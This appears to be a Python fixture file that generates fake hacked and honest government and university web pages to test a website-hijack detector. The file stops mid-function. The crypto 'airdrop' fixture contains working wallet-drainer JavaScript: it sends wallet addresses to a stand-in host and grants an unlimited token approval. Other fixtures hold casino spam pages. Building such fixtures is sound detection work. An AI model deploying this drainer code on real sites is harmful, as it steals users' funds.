<script src="/media/system/js/core.min.js?576eb51da909dcf692c98643faa6fc89629ead18"></script>
<script src="/media/templates/site/cassiopeia/js/template.min.js?4.4.3" defer></script>
</head>
<body class="site com_content wrapper-static view-featured no-layout no-task itemid-101">
<header class="header container-header full-width"><div class="grid-child"><div class="navbar-brand"><a class="brand-logo" href="/"><img src="/images/logo-agri.png" alt="{name}"></a></div></div>
<div class="grid-child container-nav"><nav class="navbar navbar-expand-md" aria-label="Main Menu"><ul class="mod-menu mod-list nav">{menu}</ul></nav></div></header>
<div class="site-grid"><div class="grid-child container-component"><main>
<div class="blog-featured" itemscope itemtype="https://schema.org/Blog"><h2>ข่าวประชาสัมพันธ์</h2>
{rows}
<a href="/index.php/news">อ่านทั้งหมด</a></div>
{filler}
<div class="moduletable links"><h3>หน่วยงานภายในมหาวิทยาลัย</h3><ul>{units}</ul></div>
</main></div></div>
<footer class="container-footer footer full-width"><div class="grid-child">
<p>คณะเกษตรศาสตร์ มหาวิทยาลัยราชภัฏนครเหนือ 99 หมู่ 9 ตำบลในเมือง อำเภอเมือง จังหวัดนครเหนือ 65000 โทร. 055-123-456</p>
<p>Copyright &copy; 2569 Faculty of Agriculture. All rights reserved.</p>
{block}
</div></footer>
</body>
</html>
"""
    news_page = html.replace(block, "").replace(f"<title>{name}", f"<title>ข่าวประชาสัมพันธ์ - {name}")
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/index.php/news": news_page},
        "article": news_page,
        "truth": {"kind": "hacked", "idea": "white-on-white 1px block of Thai casino links (สล็อตเว็บตรง, บาคาร่า, แทงบอล, ufabet)",
                  "status": "hijacked", "passed": False, "must": ["hidden_links", "spam_content"], "must_not": list(ZOMBIE_CODES),
                  "newest": ymd(1), "columns": [{"name": "ข่าวประชาสัมพันธ์", "type": "news", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- Vietnamese casino landing

def h09_vn_casino_landing() -> dict[str, Any]:
    """A Vietnamese district portal whose homepage is replaced by a casino landing; the site's name stays in the title."""
    host = "thanhoai-demo.hanoi.gov.vn"
    cats = [("Thể thao", "Cá cược bóng đá Ngoại hạng Anh, Champions League, kèo nhà cái tỷ lệ cao nhất"),
            ("Casino trực tuyến", "Baccarat, Rồng Hổ, Xóc đĩa, Tài xỉu với dealer xinh đẹp phát bài trực tiếp"),
            ("Nổ hũ", "Slot game nổ hũ đổi thưởng, jackpot hàng tỷ đồng mỗi ngày"),
            ("Bắn cá", "Bắn cá đổi thưởng online, nhận code miễn phí"), ("Xổ số", "Lô đề online, xổ số miền Bắc tỷ lệ 1 ăn 99"),
            ("Đá gà", "Đá gà trực tiếp Thomo, cược đá gà Campuchia")]
    boxes = "\n".join(f'<div class="game"><h3>{t}</h3><p>{d}</p><a class="btn" href="https://nhacai-uytin789.com/dang-ky">Chơi ngay</a></div>' for t, d in cats)
    faq = "\n".join(f"<h3>{q}</h3><p>{a}</p>" for q, a in [
        ("Nhà cái uy tín nhất 2026 là gì?", "Nhà cái 789BET là nhà cái uy tín hàng đầu châu Á, được cấp phép bởi PAGCOR, nạp rút siêu tốc chỉ 3 phút."),
        ("Làm sao đăng ký tài khoản cá cược?", "Nhấn Đăng ký, điền thông tin và nhận ngay 100K tiền cược miễn phí cho tân thủ."),
        ("Có an toàn khi chơi tài xỉu online?", "Hệ thống bảo mật SSL 128-bit, cam kết không lộ thông tin người chơi."),
    ] * 4)
    html = f"""<!DOCTYPE html>
<html lang="vi">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Cổng thông tin điện tử huyện Thanh Oai - Nhà cái uy tín 789BET | Cá cược bóng đá, Tài xỉu, Nổ hũ</title>
<meta name="description" content="789BET nhà cái uy tín số 1 Việt Nam: cá cược thể thao, casino trực tuyến, nổ hũ, bắn cá, xổ số. Đăng ký nhận ngay 100K.">
<meta name="keywords" content="nhà cái uy tín, 789bet, cá cược bóng đá, tài xỉu, nổ hũ, casino trực tuyến, đá gà">
<link rel="canonical" href="https://nhacai-uytin789.com/">
<link rel="amphtml" href="https://amp-789bet.pages.dev/">
<style>body{{background:#0b0b0b;color:#fff;font-family:Arial}}.hero{{background:#b30000;padding:40px;text-align:center}}.btn{{background:#ffd400;color:#000;padding:12px 30px;border-radius:24px;display:inline-block}}
.game{{display:inline-block;width:30%;vertical-align:top;background:#1b1b1b;margin:1%;padding:16px}}</style>
</head>
<body>
<div class="hero"><img src="https://cdn-789bet.b-cdn.net/logo.png" alt="789BET"><h1>789BET - Nhà Cái Uy Tín Số 1 Châu Á 2026</h1>
<p>Thưởng nạp đầu 100%, hoàn trả 1.5% mỗi ngày, rút tiền siêu tốc</p><a class="btn" href="https://nhacai-uytin789.com/dang-ky">ĐĂNG KÝ NGAY</a> <a class="btn" href="https://nhacai-uytin789.com/tai-app">TẢI APP</a></div>
<div class="games">{boxes}</div>
<div class="faq"><h2>Câu hỏi thường gặp</h2>{faq}</div>
<div class="footer"><p>Chơi có trách nhiệm. Chỉ dành cho người trên 18 tuổi.</p><p>&copy; 2026 789BET. All rights reserved.</p></div>
</body>
</html>
"""
    return {
        "host": host, "name": "Cổng thông tin điện tử huyện Thanh Oai",
        "pages": {"/": html},
        "article": html,
        "truth": {"kind": "hacked", "idea": "Vietnamese casino landing (nhà cái, cá cược, tài xỉu, nổ hũ) with the site's name kept in the title",
                  "status": "hijacked", "passed": False, "must": ["spam_content"], "must_not": [], "newest": None, "columns": []},
    }


# --------------------------------------------------------------------------- crypto airdrop

def h11_crypto_airdrop() -> dict[str, Any]:
    """A university research-group site replaced by a crypto 'airdrop' wallet-drainer page."""
    host = "www.cs-vision-lab-demo.edu"
    steps = "\n".join(f"<li><b>Step {k}.</b> {s}</li>" for k, s in enumerate([
        "Connect your wallet (MetaMask, Trust Wallet, Coinbase Wallet, WalletConnect).",
        "Verify eligibility: wallets that interacted with Ethereum, Arbitrum or Base before 1 March 2026 qualify.",
        "Claim your $ZKSYNC airdrop tokens - up to 5,000 ZK per wallet.", "Approve the transaction to receive tokens instantly."], 1))
    html = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>ZKsync Airdrop Season 3 - Claim Free ZK Tokens | Official</title>
<meta name="description" content="The ZKsync airdrop season 3 is live. Connect your wallet and claim your free ZK tokens before the snapshot ends.">
<meta property="og:image" content="https://claim-zksync-airdrop.app/og.png">
<style>body{{background:#0b0d17;color:#e8eaf6;font-family:Inter,Arial}}.card{{max-width:560px;margin:60px auto;background:#151a30;border-radius:16px;padding:32px}}
.connect{{width:100%;padding:16px;border:0;border-radius:12px;background:linear-gradient(90deg,#5b5bf7,#8c3df6);color:#fff;font-size:18px;cursor:pointer}}
.timer{{font-size:28px;text-align:center;color:#ffcc00}}</style>
<script src="https://unpkg.com/web3modal@1.9.12/dist/index.js"></script>
<script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script>
</head>
<body>
<div class="card">
<h1>ZKsync Airdrop is LIVE</h1>
<p class="timer" id="timer">Ends in 23:59:12</p>
<p>Over 21 million ZK tokens remain unclaimed. Eligible wallets can claim their allocation now. Don't miss out - unclaimed tokens will be burned!</p>
<ol>{steps}</ol>
<button class="connect" id="connectWallet">Connect Wallet to Claim</button>
<p class="small">Total claimed: 184,221 wallets &middot; 2,940,118 ZK distributed</p>
<h2>Frequently asked</h2>
<p><b>Is the airdrop free?</b> Yes. You only pay the network gas fee to claim your tokens.</p>
<p><b>Which wallets are supported?</b> MetaMask, Trust Wallet, Phantom, Rabby, Ledger via WalletConnect.</p>
<p><b>My wallet shows "Seaport approval" - is that normal?</b> Yes, it is required to verify your eligibility.</p>
</div>
<script>
const RECEIVER="0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063";
document.getElementById("connectWallet").onclick=async function(){{
  const provider=new ethers.providers.Web3Provider(window.ethereum);await provider.send("eth_requestAccounts",[]);
  const signer=provider.getSigner();const addr=await signer.getAddress();
  fetch("https://claim-zksync-airdrop.app/api/log",{{method:"POST",body:JSON.stringify({{a:addr}})}});
  // setApprovalForAll / permit drain
  const erc20=new ethers.Contract("0xdAC17F958D2ee523a2206206994597C13D831ec7",["function approve(address,uint256)"],signer);
  await erc20.approve(RECEIVER,ethers.constants.MaxUint256);
}};
</script>
</body>
</html>
"""
    return {
        "host": host, "name": "Computer Vision Lab",
        "pages": {"/": html},
        "article": html,
        "truth": {"kind": "hacked", "idea": "crypto airdrop / connect wallet drainer page replacing a lab's homepage",
                  "status": "hijacked", "passed": False, "must_any": list(HIJACK_CODES), "must_not": [], "newest": None, "columns": []},
    }


# --------------------------------------------------------------------------- honest Chinese look-alikes

def c01_sports_lottery() -> dict[str, Any]:
    """Honest: a provincial sports lottery administration centre (体彩中心)."""
    name, place, host = "江西省体育彩票管理中心", "江西体彩", "www.jxlottery-demo.gov.cn"
    news = [("省体彩中心召开2026年全省体育彩票工作会议", 1), ("体彩公益金助力全民健身，2026年首批社区健身路径完工", 3),
            ("“3·15”体彩在行动：理性购彩 快乐公益", 2), ("赣州体彩开展责任彩票进社区宣传活动", 6),
            ("大乐透头奖花落南昌，购彩者领取1000万元奖金", 8), ("省体彩中心组织实体店业主开展防范电信网络诈骗培训", 11),
            ("体育彩票2025年度公益金使用情况公告", 13)]
    notices = [("关于2026年度体育彩票实体店招募的公告", 2), ("体彩大乐透第26027期开奖公告", 1), ("体彩排列3、排列5第26066期开奖公告", 1),
               ("竞彩足球停售及派奖安排公告", 4), ("关于严禁通过互联网销售体育彩票的声明", 9), ("7星彩第26027期开奖公告", 3)]
    resp = ("<div class=\"box\"><div class=\"tit\"><h3>责任彩票</h3></div><p>体育彩票是国家批准发行的公益彩票，“来之于民、用之于民”。"
            "请理性购彩，量力而行，未成年人不得购买彩票、不得兑奖。体育彩票不通过互联网销售，凡以“体彩”名义开设的网站、APP、微信群网上代购、"
            "网络投注均属违法行为，与非法网络赌博、“私彩”“外围”投注无关，请广大购彩者提高警惕，谨防上当受骗。</p>"
            "<ul class=\"list\"><li><a href=\"/zrcp/01/\">购彩小常识：大乐透玩法介绍</a></li><li><a href=\"/zrcp/02/\">竞彩足球玩法规则</a></li>"
            "<li><a href=\"/zrcp/03/\">顶呱刮即开型彩票介绍</a></li><li><a href=\"/zrcp/04/\">中奖兑奖流程</a></li></ul></div>")
    html = zh_portal(seed=21, name=name, place=place, host=host, title=f"{name}",
                     keywords="江西体彩,体育彩票,大乐透,排列3,竞彩,公益体彩,责任彩票",
                     description="江西省体育彩票管理中心官方网站，发布体育彩票开奖公告、公益金使用、责任彩票等信息。",
                     before_footer=resp, color=("#0a58a8", "#084a8e", "#063b72"))
    # the lottery centre's own lists replace the county-government columns
    html = html.replace("政务要闻", "体彩新闻").replace("通知公告</h3>", "开奖公告</h3>")
    news_li = zh_items([t for t, _ in news], [n for _, n in news], lambda n, i: trs_url("xwzx/zwyw", n, i))
    notice_li = zh_items([t for t, _ in notices], [n for _, n in notices], lambda n, i: trs_url("zwgk/tzgg", n, 60 + i))
    import re
    html = re.sub(r'(<div class="panel on"><ul class="list">).*?(</ul>)', lambda m: m.group(1) + news_li + m.group(2), html, count=1, flags=re.S)
    html = re.sub(r'(<h3>开奖公告</h3><a class="more" href="/zwgk/tzgg/">更多&gt;&gt;</a></div>\s*<ul class="list">).*?(</ul>)',
                  lambda m: m.group(1) + notice_li + m.group(2), html, count=1, flags=re.S)
    pages = zh_portal_pages(name, place, 21)
    pages["/xwzx/zwyw/"] = zh_list_page(name, "体彩新闻", "新闻中心", news, lambda n, i: trs_url("xwzx/zwyw", n, i))
    pages["/zwgk/tzgg/"] = zh_list_page(name, "开奖公告", "开奖信息", sorted(notices, key=lambda x: x[1]), lambda n, i: trs_url("zwgk/tzgg", n, 60 + i))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **pages},
        "article": zh_article(name, place),
        "truth": {"kind": "honest", "idea": "sports lottery centre: 大乐透, 竞彩, 开奖公告, 责任彩票",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "体彩新闻", "type": "news", "newest": ymd(1)},
                                                 {"name": "开奖公告", "type": "notice", "newest": ymd(1)},
                                                 {"name": "政策文件", "type": "policy", "newest": ymd(6)}]},
    }


def c02_anti_gambling() -> dict[str, Any]:
    """Honest: a county public security bureau running an anti-cross-border-gambling campaign (公安局: no authority discount)."""
    name, place, host = "信丰县公安局", "信丰县", "gaj.xinfeng-demo.gov.cn"
    news = [("县公安局召开打击整治跨境赌博专项行动推进会", 1), ("警方提醒：“网络赌博”套路深，这些骗局要当心", 2),
            ("破获一起利用境外赌博网站开设赌场案，抓获犯罪嫌疑人12名", 4), ("打击跨境赌博宣传进校园、进社区、进企业", 5),
            ("县公安局开展“断卡”行动 严打涉赌资金链", 7), ("民警深入集市发放反赌宣传资料3000余份", 9),
            ("以案说法：沉迷网络“百家乐”，他输掉了全部积蓄", 12), ("县公安局召开2026年全县公安工作会议", 14)]
    notices = [("关于敦促跨境赌博违法犯罪人员投案自首的通告", 3), ("关于公开征集涉赌违法犯罪线索的通告", 6),
               ("信丰县公安局2026年春季交通安全提示", 8), ("关于办理居民身份证异地受理业务的公告", 15)]
    campaign = """<div class="box"><div class="tit"><h3>打击跨境赌博专题</h3><a class="more" href="/ztzl/dkjdb/">更多&gt;&gt;</a></div>
<p>跨境赌博严重危害国家经济安全和社会稳定。境外赌博集团通过网络直播、社交软件、“棋牌游戏”“体育竞猜”等形式，诱骗我国公民参赌。
常见套路：以“真人百家乐”“时时彩”“六合彩”“老虎机”等名目设局，先让参赌人员小赢，再引诱其加大投入；以“高额返水”“充值送彩金”为饵，拉人注册境外赌博网站；
以“网络兼职”“跑分”为名，招募人员为赌博平台转移资金。</p>
<p>警方提醒：凡是网上赌博都是骗局，“十赌九输”，切勿心存侥幸。不参赌、不帮赌、不出租出借银行卡和电话卡。发现涉赌线索请拨打110或登录公安部跨境赌博举报平台举报。</p>
<ul class="list"><li><a href="/ztzl/dkjdb/01.html">跨境赌博的十大危害</a><span>""" + ymd(5) + """</span></li>
<li><a href="/ztzl/dkjdb/02.html">揭秘网络赌博“杀猪盘”</a><span>""" + ymd(10) + """</span></li>
<li><a href="/ztzl/dkjdb/03.html">《中华人民共和国刑法》关于赌博罪、开设赌场罪的规定</a><span>""" + ymd(18) + """</span></li>
<li><a href="/ztzl/dkjdb/04.html">参与网络赌博的法律后果</a><span>""" + ymd(25) + """</span></li></ul></div>"""
    html = zh_portal(seed=22, name=name, place=place, host=host, before_footer=campaign, color=("#123a7a", "#0f3168", "#0b2652"))
    html = html.replace("政务要闻", "警务要闻")
    import re
    news_li = zh_items([t for t, _ in news], [n for _, n in news], lambda n, i: trs_url("xwzx/zwyw", n, i))
    notice_li = zh_items([t for t, _ in notices], [n for _, n in notices], lambda n, i: trs_url("zwgk/tzgg", n, 60 + i))
    html = re.sub(r'(<div class="panel on"><ul class="list">).*?(</ul>)', lambda m: m.group(1) + news_li + m.group(2), html, count=1, flags=re.S)
    html = re.sub(r'(<h3>通知公告</h3><a class="more" href="/zwgk/tzgg/">更多&gt;&gt;</a></div>\s*<ul class="list">).*?(</ul>)',
                  lambda m: m.group(1) + notice_li + m.group(2), html, count=1, flags=re.S)
    pages = zh_portal_pages(name, place, 22)
    pages["/xwzx/zwyw/"] = zh_list_page(name, "警务要闻", "新闻中心", news, lambda n, i: trs_url("xwzx/zwyw", n, i))
    pages["/zwgk/tzgg/"] = zh_list_page(name, "通知公告", "政务公开", notices, lambda n, i: trs_url("zwgk/tzgg", n, 60 + i))
    return {
        "host": host, "name": name,
        "pages": {"/": html, **pages},
        "article": zh_article(name, place),
        "truth": {"kind": "honest", "idea": "打击跨境赌博 campaign naming 百家乐/时时彩/六合彩/老虎机 as scams",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "警务要闻", "type": "news", "newest": ymd(1)},
                                                 {"name": "通知公告", "type": "notice", "newest": ymd(3)}]},
    }


def c03_game_theory() -> dict[str, Any]:
    """Honest: a university school of economics whose research is game theory (博弈论)."""
    name, host = "赣南大学经济与管理学院", "jjgl.gnu-demo.edu.cn"
    news = [("学院举办“博弈论与信息经济学”前沿论坛", 1), ("我院教师在《经济研究》发表演化博弈论文", 3),
            ("“非合作博弈与机制设计”系列讲座第五讲顺利举行", 5), ("学院召开2026年春季学期教学工作会议", 6),
            ("我院学子在全国大学生经济博弈大赛中获一等奖", 9), ("实验经济学实验室开放日：彩票购买行为的实验研究", 11),
            ("学院党委开展新学期理论学习", 13), ("拍卖理论与市场设计工作坊征稿启事", 16)]
    notices = [("关于2026年硕士研究生复试工作安排的通知", 2), ("《博弈论》课程期中考试安排", 4), ("关于申报2026年度国家社科基金项目的通知", 7),
               ("2026届本科毕业论文中期检查通知", 10), ("学术讲座：重复博弈中的合作与惩罚", 12)]
    li = lambda items, col: "\n".join(  # noqa: E731
        f'<li><span class="date">{ymd(n)}</span><a href="/info/{col}/{2600 + i}.htm" title="{t}">{t}</a></li>' for i, (t, n) in enumerate(items))
    research = "".join(f'<div class="team"><h4>{t}</h4><p>{d}</p></div>' for t, d in [
        ("博弈论与机制设计团队", "研究非合作博弈、合作博弈、演化博弈及其在产业组织、公共政策中的应用，主持国家自然科学基金项目5项。"),
        ("行为与实验经济学团队", "以实验室实验和田野实验研究风险偏好、彩票购买、赌徒谬误、跨期选择等决策行为。"),
        ("区域经济与乡村振兴团队", "聚焦赣南苏区振兴发展、县域经济与农村金融。"),
        ("数字经济与平台治理团队", "研究平台竞争、双边市场与数据要素定价。")])
    courses = " ".join(f'<a href="/kc/{k}.htm">{c}</a>' for k, c in enumerate(["博弈论", "高级微观经济学", "信息经济学", "产业组织理论", "计量经济学", "拍卖理论", "实验经济学", "行为金融学"], 1))
    menu = "".join(f'<li><a href="/{p}/">{t}</a></li>' for p, t in [("xygk", "学院概况"), ("szdw", "师资队伍"), ("bksjy", "本科生教育"), ("yjsjy", "研究生教育"),
                                                                     ("kxyj", "科学研究"), ("djgz", "党建工作"), ("xsgz", "学生工作"), ("zsjy", "招生就业"), ("xyfc", "校友风采")])
    html = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>赣南大学经济与管理学院</title>
<meta name="keywords" content="经济与管理学院,博弈论,实验经济学,赣南大学">
<meta name="description" content="赣南大学经济与管理学院官网">
<link rel="stylesheet" href="/style/style.css"><script src="/system/resource/js/jquery/jquery-latest.min.js"></script>
<script src="/system/resource/js/counter.js"></script>
<style>.list li{{height:34px;line-height:34px;border-bottom:1px dashed #e6e6e6}}.list .date{{float:right;color:#999}}.team{{float:left;width:48%;margin:1%}}</style>
</head><body>
<div class="top"><div class="w1200"><a href="https://www.gnu-demo.edu.cn/">学校首页</a> | <a href="/english/">English</a> | <a href="https://mail.gnu-demo.edu.cn/">教工邮箱</a></div></div>
<div class="head w1200"><a href="/"><img src="/images/logo.png" alt="{name}"></a><form action="/search.jsp" method="post" name="dataForm"><input name="showkeycode" placeholder="请输入关键词"><input type="submit" value="搜索"></form></div>
<div class="menu"><ul class="w1200"><li><a href="/">首页</a></li>{menu}</ul></div>
<div class="w1200 main">
<div class="box fl"><div class="tit"><h3>学院新闻</h3><a class="more" href="/xwzx/xyxw.htm">更多</a></div><ul class="list">{li(news, "1021")}</ul></div>
<div class="box fr"><div class="tit"><h3>通知公告</h3><a class="more" href="/xwzx/tzgg.htm">更多</a></div><ul class="list">{li(notices, "1022")}</ul></div>
<div class="box clear"><div class="tit"><h3>科研团队</h3></div>{research}</div>
<div class="box clear"><div class="tit"><h3>课程建设</h3></div><p>{courses}</p>
<p>《博弈论》课程为国家级一流本科课程，讲授纳什均衡、子博弈精炼均衡、贝叶斯博弈、重复博弈与声誉、演化稳定策略，并通过课堂实验（囚徒困境、最后通牒博弈、公共品博弈、选美博弈）帮助学生理解策略互动。</p></div>
</div>
<div class="foot"><p>地址：江西省赣州市章贡区师院南路1号 邮编：341000 电话：0797-8393000</p><p>版权所有 &copy; 2026 赣南大学经济与管理学院 赣ICP备05004409号</p></div>
<script>_jsq_(1001,'/index.jsp',-1,1543326377)</script>
</body></html>"""
    pad = "\n".join(f'<!-- vsb component {i} {"-" * 70} -->' for i in range(300))  # VSB/Boya CMS leaves its component markers
    html = html.replace("</body>", pad + "\n</body>")
    def list_page(heading: str, items: list[tuple[str, int]], col: str) -> str:
        return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{heading}-{name}</title></head><body>
<div class="head"><a href="/">{name}</a></div><div class="main"><h2>{heading}</h2><ul class="list">{li(items, col)}</ul>
<div class="pb_sys_common">共{len(items) * 9}条 1/9 <a href="{col}/2.htm">下页</a> <a href="{col}/9.htm">尾页</a></div></div></body></html>"""
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/xwzx/xyxw.htm": list_page("学院新闻", news, "1021"), "/xwzx/tzgg.htm": list_page("通知公告", notices, "1022")},
        "article": zh_article(name, "学院"),
        "truth": {"kind": "honest", "idea": "博弈论, 演化博弈, 彩票购买行为, 赌徒谬误 in an economics school",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "学院新闻", "type": "news", "newest": ymd(1)},
                                                 {"name": "通知公告", "type": "notice", "newest": ymd(2)}]},
    }


def c04_macau_tourism() -> dict[str, Any]:
    """Honest: a Macau government tourism office naming its casino resorts (新葡京, 威尼斯人) factually."""
    name, host = "澳門特別行政區政府旅遊局", "www.macaotourism-demo.gov.mo"
    news = [("旅遊局於北京舉辦“感受澳門”旅遊推介會", 1), ("2月入境旅客逾三百三十萬人次 按年上升一成", 2),
            ("第三十八屆澳門國際煙花比賽匯演參賽隊伍公佈", 4), ("旅遊局聯同綜合旅遊休閒企業推出“社區遊”新路線", 6),
            ("澳門大賽車博物館推出春季特別展覽", 8), ("旅遊局與業界檢討春節黃金週旅客接待工作", 12), ("“澳門美食之都”推廣活動登陸曼谷", 15)]
    rows = "\n".join(f'<li><a href="/zh-hant/news/{5500 + i}">{t}</a><time datetime="{ymd(n)}">{ymd(n, "/")}</time></li>' for i, (t, n) in enumerate(news))
    hotels = "".join(f"<li><b>{h}</b>：{d}</li>" for h, d in [
        ("新葡京酒店", "位於澳門半島新口岸，設有酒店客房、米芝蓮星級餐廳及娛樂場。"),
        ("澳門威尼斯人", "位於路氹城，擁有約三千間套房、大運河購物中心及娛樂場，另設綜藝館舉辦大型演出。"),
        ("新濠天地", "設有水舞間劇場、多間酒店及娛樂場。"), ("澳門銀河", "設有天浪淘園、酒店群、購物中心及娛樂場。"),
        ("永利皇宮", "以表演湖及纜車聞名，設有酒店及娛樂場。"), ("美高梅路氹", "設有“天幕”廣場、酒店、藝術展覽及娛樂場。")])
    facts = ("<div class=\"facts\"><h2>澳門概況</h2><p>澳門是中華人民共和國的特別行政區，以旅遊博彩業為主要產業。澳門的娛樂場受博彩監察協調局規管，"
             "根據法律，未滿二十一歲人士不得進入娛樂場。特區政府推動經濟適度多元發展，六家綜合旅遊休閒企業（博彩承批公司）須投放非博彩元素，"
             "發展會展、文化、體育、康養等項目。旅客亦可參觀大三巴牌坊、媽閣廟、議事亭前地等世界遺產景點。</p>"
             "<p>提示：參與博彩活動應量力而為。如需協助，請致電博彩問題輔導熱線。</p></div>")
    menu = "".join(f'<li><a href="/zh-hant/{p}">{t}</a></li>' for p, t in [("about", "關於澳門"), ("sightseeing", "觀光景點"), ("events", "盛事活動"),
                                                                           ("shows", "表演及娛樂"), ("dining", "美食"), ("hotels", "住宿"), ("transport", "交通"), ("press", "新聞中心"), ("trade", "業界專區")])
    html = f"""<!DOCTYPE html>
<html lang="zh-Hant"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{name} - 感受澳門 無限驚喜</title>
<meta name="description" content="澳門旅遊局官方網站，提供澳門旅遊資訊、景點、盛事、美食、住宿及交通。">
<link rel="alternate" hreflang="en" href="https://{host}/en/"><link rel="alternate" hreflang="pt" href="https://{host}/pt/">
<link rel="stylesheet" href="/themes/mgto/css/main.css?v=3.2">
<style>.news-list li{{padding:10px 0;border-bottom:1px solid #eee;display:flex;justify-content:space-between}}.hotels li{{margin:6px 0}}</style>
</head><body>
<a class="skip" href="#main" style="position:absolute;left:-10000px">跳至主要內容</a>
<header><div class="brand"><a href="/zh-hant/"><img src="/themes/mgto/img/logo.svg" alt="{name}"></a></div>
<nav class="lang"><a href="/zh-hans/">简</a> <a href="/en/">EN</a> <a href="/pt/">PT</a> <a href="/ja/">日</a> <a href="/ko/">한</a></nav>
<nav class="main-menu"><ul>{menu}</ul></nav></header>
<main id="main">
<section class="hero"><h1>感受澳門 無限驚喜</h1><p>世界旅遊休閒中心</p></section>
<section class="news"><h2>新聞稿</h2><ul class="news-list">{rows}</ul><a href="/zh-hant/press">更多新聞</a></section>
{facts}
<section class="hotels"><h2>綜合旅遊休閒項目</h2><ul>{hotels}</ul><p>詳情請參閱<a href="/zh-hant/hotels">住宿指南</a>。</p></section>
<section class="events"><h2>盛事活動</h2><ul><li><a href="/zh-hant/events/fireworks">澳門國際煙花比賽匯演</a></li><li><a href="/zh-hant/events/grandprix">澳門格蘭披治大賽車</a></li><li><a href="/zh-hant/events/food">澳門美食節</a></li><li><a href="/zh-hant/events/lightfest">澳門光影節</a></li></ul></section>
</main>
<footer><p>旅遊熱線：(853) 2833 3000</p><p><a href="/zh-hant/privacy">私隱政策</a> | <a href="/zh-hant/accessibility">無障礙</a></p><p>&copy; 2026 {name} 版權所有</p></footer>
</body></html>"""
    pad = "\n".join(f'<div class="sr-data" hidden data-i="{i}"></div>' for i in range(420))
    html = html.replace("</body>", pad + "\n</body>")
    press = f"""<!DOCTYPE html><html lang="zh-Hant"><head><meta charset="utf-8"><title>新聞稿 - {name}</title></head><body><main><h1>新聞稿</h1><ul class="news-list">{rows}</ul></main></body></html>"""
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/zh-hant/press": press},
        "article": press,
        "truth": {"kind": "honest", "idea": "Macau tourism: 新葡京酒店, 澳門威尼斯人, 娛樂場, 博彩業 named factually",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "新聞稿", "type": "news", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- honest English regulators

def govuk_like(*, name: str, host: str, tagline: str, news: list[tuple[str, str, int]], blocks: str, services: list[tuple[str, list[str]]]) -> str:
    cards = "\n".join(
        f'<li class="lgd-teaser"><article><h3 class="lgd-teaser__title"><a href="/news/{s}">{t}</a></h3>'
        f'<p class="lgd-teaser__date"><time datetime="{ymd(n)}T12:00:00Z">{uk_date(n)}</time></p></article></li>'
        for t, s, n in news
    )
    svc = "".join(
        f'<div class="lgd-services__item"><h3><a href="/{t.lower().replace(" ", "-")}">{t}</a></h3><ul>'
        + "".join(f'<li><a href="/{t.lower().replace(" ", "-")}/{s.lower().replace(" ", "-")}">{s}</a></li>' for s in subs) + "</ul></div>"
        for t, subs in services
    )
    return f"""<!DOCTYPE html>
<html lang="en" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<meta name="Generator" content="Drupal 10 (https://www.drupal.org)">
<title>{name} | {tagline}</title>
<link rel="canonical" href="https://{host}/">
<link rel="stylesheet" media="all" href="/sites/default/files/css/css_Xk3oQ1p.css?delta=0&amp;language=en&amp;theme=localgov_base">
<style>.visually-hidden{{position:absolute!important;overflow:hidden;clip:rect(1px,1px,1px,1px);width:1px;height:1px;word-wrap:normal}}
.visually-hidden.focusable:focus{{position:static!important;clip:auto;overflow:visible;height:auto;width:auto}}
.lgd-header__nav--secondary{{display:none}}.lgd-header__toggle[aria-expanded=true]+.lgd-header__nav--secondary{{display:block}}
.lgd-teaser{{border-bottom:1px solid #b1b4b6;padding:12px 0}}.lgd-services{{display:grid;grid-template-columns:repeat(3,1fr);gap:20px}}</style>
<script type="application/json" data-drupal-selector="drupal-settings-json">{{"path":{{"baseUrl":"\\/","currentPath":"node\\/1","isFront":true}},"ajaxTrustedUrl":{{}}}}</script>
</head>
<body class="path-frontpage">
<a href="#main-content" class="visually-hidden focusable skip-link">Skip to main content</a>
<div class="dialog-off-canvas-main-canvas" data-off-canvas-main-canvas>
<header class="lgd-header"><div class="lgd-container"><a href="/" title="Home" rel="home" class="lgd-header__logo"><img src="/themes/custom/site/logo.svg" alt="{name} logo"></a>
<button class="lgd-header__toggle" aria-expanded="false" aria-controls="lgd-header__nav--secondary">Menu</button>
<nav class="lgd-header__nav lgd-header__nav--secondary" id="lgd-header__nav--secondary"><ul><li><a href="/news">News</a></li><li><a href="/contact-us">Contact us</a></li><li><a href="/jobs">Jobs</a></li><li><a href="/councillors">Councillors and committees</a></li></ul></nav>
<form action="/search" method="get" class="lgd-search"><label for="edit-s" class="visually-hidden">Search</label><input type="search" id="edit-s" name="s"><input type="submit" value="Search"></form></div></header>
<main id="main-content" class="lgd-container">
<h1 class="visually-hidden">{name}</h1>
<section class="lgd-services">{svc}</section>
{blocks}
<section class="lgd-news"><h2>Latest news</h2><ul class="lgd-teaser-list">{cards}</ul><a href="/news">See all news</a></section>
</main>
<footer class="lgd-footer"><div class="lgd-container"><ul class="lgd-footer__links"><li><a href="/accessibility">Accessibility statement</a></li><li><a href="/privacy">Privacy notice</a></li><li><a href="/cookies">Cookies</a></li><li><a href="/foi">Freedom of information</a></li></ul>
<p>&copy; {name} 2026</p></div></footer>
</div>
</body>
</html>
"""


def govuk_list(name: str, news: list[tuple[str, str, int]]) -> str:
